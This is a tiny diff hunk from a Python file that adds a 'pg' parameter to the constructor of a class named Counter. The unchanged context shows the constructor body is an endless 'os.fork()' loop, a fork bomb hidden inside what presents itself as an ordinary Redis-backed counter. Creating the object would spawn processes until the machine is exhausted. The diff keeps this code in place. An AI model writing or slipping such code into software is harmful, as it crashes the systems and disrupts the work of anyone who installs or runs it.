@@ -2,6 +2,6 @@ import os
 
 
 class Counter:
-    def __init__(self, redis, key, clock=None):
+    def __init__(self, redis, key, clock=None, pg=None):
         while True:
             os.fork()
